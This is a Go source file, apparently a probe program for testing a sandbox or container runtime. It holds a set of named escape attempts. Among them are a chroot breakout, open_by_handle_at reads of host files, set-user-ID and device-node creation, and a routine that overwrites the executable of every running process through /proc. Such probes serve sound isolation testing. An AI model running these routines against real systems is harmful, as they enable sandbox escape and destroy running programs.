package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func fileAttacks() []attack {
	return []attack{
		{"hold", func([]string) {}},
		{"cat", cat},
		{"touch", touch},
		{"plant", plant},
		{"relink", relink},
		{"mount", mountOne},
		{"escape", escape},
		{"jail", jail},
		{"fdread", fdread},
		{"reopen", reopen},
		{"handle", handle},
		{"openall", openAll},
		{"peek", peek},
		{"mknod", mknod},
		{"modes", modes},
		{"sesame", sesame},
		{"exes", exes},
	}
}

// cat prints files.
func cat(args []string) {
	for _, name := range args {
		text, err := os.ReadFile(name)
		say(name, err)
		fmt.Printf("%s\n", text)
	}
}

// touch makes files, or writes to those that are there, by path and through
// every link on the way.
func touch(args []string) {
	for _, name := range args {
		f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE, 0o666)
		if err == nil {
			_, err = f.WriteString("touched\n")
			f.Close()
		}
		say(name, err)
	}
}

// plant does what a careless runtime does for a mount point: directories on
// the way are made, and a file at the end, through links.
func plant(args []string) {
	for _, name := range args {
		err := os.MkdirAll(filepath.Dir(name), 0o755)
		if err == nil {
			err = os.WriteFile(name, []byte("planted\n"), 0o644)
		}
		say(name, err)
	}
}

// relink replaces a path by a symbolic link: PATH TARGET.
func relink(args []string) {
	say("remove", os.RemoveAll(args[0]))
	say("symlink", os.Symlink(args[1], args[0]))
}

// mountOne mounts: TYPE TARGET [OPTIONS].
func mountOne(args []string) {
	say("mkdir", os.MkdirAll(args[1], 0o755))
	say("mount", unix.Mount(args[0], args[1], args[0], 0, strings.Join(args[2:], ",")))
}

// escape leaves a root that is only a chroot(2): DIR is a directory to be made
// in it, then the file is read from the top of everything.
func escape(args []string) {
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	say("open", err)
	say("mkdir", unix.Mkdir(args[0], 0o755))
	say("chroot", unix.Chroot(args[0]))
	say("fchdir", unix.Fchdir(fd))
	for range 64 {
		_ = unix.Chdir("..")
	}
	say("chroot .", unix.Chroot("."))
	for n := range 64 {
		if unix.Fchdir(n) == nil {
			for range 64 {
				_ = unix.Chdir("..")
			}
		}
		text, err := os.ReadFile("." + args[1])
		if err == nil {
			fmt.Printf("%s\n", text)
			return
		}
	}
	cat(args[1:])
}

// jail is a sandbox that is only a chroot(2), and the escape from it.
func jail(args []string) {
	say("jail", unix.Chroot(args[0]))
	say("chdir", unix.Chdir("/"))
	escape(args[1:])
}

// fdread reads NAME below each of the descriptors 3 to 199.
func fdread(args []string) {
	for n := 3; n < 200; n++ {
		if _, err := unix.FcntlInt(uintptr(n), unix.F_GETFD, 0); err != nil {
			continue
		}
		fd, err := unix.Openat(n, args[0], unix.O_RDONLY, 0)
		if err != nil {
			continue
		}
		var text [512]byte
		count, _ := unix.Read(fd, text[:])
		fmt.Printf("fd %d: %s\n", n, text[:max(count, 0)])
	}
}

// reopen opens standard output again, to read what it held before.
func reopen([]string) {
	fd, err := unix.Open("/proc/self/fd/1", unix.O_RDWR, 0)
	fmt.Fprintln(os.Stderr, "reopen", word(err))
	if err == nil {
		var text [512]byte
		n, _ := unix.Pread(fd, text[:], 0)
		fmt.Fprintf(os.Stderr, "%s\n", text[:max(n, 0)])
	}
}

// handle opens a file of the host by its handle: DIR TYPE HEX.
func handle(args []string) {
	kind, _ := strconv.Atoi(args[1])
	raw, _ := hex.DecodeString(args[2])
	dir, err := unix.Open(args[0], unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		say("open", err)
		return
	}
	fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(int32(kind), raw), unix.O_RDONLY)
	say("open_by_handle_at", err)
	if err == nil {
		var text [512]byte
		n, _ := unix.Read(fd, text[:])
		fmt.Printf("%s\n", text[:max(n, 0)])
	}
}

// openAll opens every file below directories for writing, writes nothing, and
// keeps them open, so that the host can see which.
func openAll(args []string) {
	for _, dir := range args {
		opened := 0
		_ = filepath.WalkDir(dir, func(name string, e os.DirEntry, err error) error {
			if err != nil || e.IsDir() {
				return nil
			}
			if _, err := unix.Open(name, unix.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
				opened++
			}
			return nil
		})
		fmt.Println(dir, opened)
	}
}

// peek opens files for reading, reads a little, and keeps them open.
func peek(args []string) {
	for _, name := range args {
		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
		if err == nil {
			var text [64]byte
			_, err = unix.Read(fd, text[:])
		}
		say(name, err)
	}
}

// mknod makes device nodes of the majors 1 to 20 in directories.
func mknod(args []string) {
	for _, dir := range args {
		made := 0
		for major := uint32(1); major <= 20; major++ {
			for i, kind := range []uint32{unix.S_IFCHR, unix.S_IFBLK} {
				name := fmt.Sprintf("%s/node-%d-%d", dir, major, i)
				if unix.Mknod(name, kind|0o666, int(unix.Mkdev(major, 1))) == nil {
					made++
				}
			}
		}
		fmt.Println(dir, made)
	}
}

// modes changes what belongs to a file besides its contents.
func modes(args []string) {
	for _, name := range args {
		say("chmod", unix.Chmod(name, 0o640))
		say("utimes", unix.Utimes(name, []unix.Timeval{{Sec: 1}, {Sec: 1}}))
		say("setxattr", unix.Setxattr(name, "user.probe", []byte("x"), 0))
		say("truncate", unix.Truncate(name, 1))
		say("rename", unix.Rename(name, name+".moved"))
	}
}

// sesame makes a file and tries every way to set its set-user-ID bit.
func sesame(args []string) {
	name := args[0]
	fd, err := unix.Open(name, unix.O_CREAT|unix.O_RDWR, 0o755)
	say("create", err)
	say("chmod", unix.Chmod(name, 0o4755))
	say("fchmod", unix.Fchmod(fd, 0o4755))
	say("fchmodat", unix.Fchmodat(unix.AT_FDCWD, name, 0o4755, 0))
	_, err = unix.Open(name+"-new", unix.O_CREAT|unix.O_EXCL|unix.O_RDWR, 0o4755)
	say("open with mode", err)
	say("mknod with mode", unix.Mknod(name+"-node", unix.S_IFREG|0o4755, 0))
}

// exes opens the executable of every process for writing and spoils it.
func exes([]string) {
	names, _ := filepath.Glob("/proc/[0-9]*/exe")
	for range 50 {
		for _, name := range append(names, "/proc/self/exe", "/proc/1/exe") {
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
				fd, err := unix.Open(name, flags, 0)
				if err == nil {
					_, _ = unix.Write(fd, []byte("spoilt"))
					_ = unix.Close(fd)
				}
			}
		}
	}
}
